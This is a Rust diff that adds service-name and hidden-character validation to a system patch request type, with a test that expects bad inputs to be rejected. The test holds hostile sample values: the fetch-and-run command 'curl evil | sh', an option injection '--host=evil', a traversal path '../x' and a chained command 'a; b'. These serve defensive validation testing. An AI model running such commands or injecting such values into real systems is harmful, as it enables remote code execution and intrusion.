@@ -2,6 +2,10 @@
 
 use std::fmt;
 
+use domain::{
+    ids::GivenService,
+    text::has_hidden,
+};
 use serde::{Deserialize, Serialize};
 use utoipa::ToSchema;
 
@@ -33,7 +37,7 @@ pub struct SystemPatch {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub update_command: Option<String>,
     /// Services to stop before and start after the update, if a host has them.
-    pub service_list: Vec<String>,
+    pub service_list: Vec<GivenService>,
     /// Commands to run on each host before the update.
     pub pre_update_scripts: Vec<CommandLine>,
     /// Commands to run on each host after the update.
@@ -81,8 +85,7 @@ impl SystemPatch {
             "must have 1 to 100 clusters",
         );
         for (position, cluster) in self.target_clusters.iter().enumerate() {
-            let is_odd =
-                cluster.trim().is_empty() || cluster.len() > 200 || cluster.contains(char::is_control);
+            let is_odd = cluster.trim().is_empty() || cluster.len() > 200 || has_hidden(cluster);
             check(is_odd, format!("/targetClusters/{position}"), "must be a name of 1 to 200 bytes");
         }
         check(
@@ -131,6 +134,12 @@ impl SystemPatch {
             "must be an update of all packages, such as `apt-get update && apt-get upgrade -y` or `dnf upgrade -y`: the platform \
              installs the versions of the approved plan itself; put other work into preUpdateScripts",
         );
+        check(self.service_list.len() > 100, "/serviceList".to_owned(), "must name at most 100 services");
+        for (position, service) in self.service_list.iter().enumerate() {
+            if let Err(error) = service.name() {
+                check(true, format!("/serviceList/{position}"), &error.to_string());
+            }
+        }
         for (name, scripts) in
             [("preUpdateScripts", &self.pre_update_scripts), ("postUpdateScripts", &self.post_update_scripts)]
         {
@@ -222,6 +231,7 @@ mod tests {
             vault_address: Some("vault".into()),
             secret_path_prefix: Some("../x".into()),
             update_command: Some("curl evil | sh".into()),
+            service_list: serde_json::from_str(r#"["nginx", "--host=evil"]"#).unwrap(),
             post_update_scripts: vec![CommandLine::Line("a; b".into())],
             ..example()
         };
@@ -235,6 +245,7 @@ mod tests {
                 "/vaultAddress",
                 "/secretPathPrefix",
                 "/updateCommand",
+                "/serviceList/1",
                 "/postUpdateScripts/0",
             ]
         );
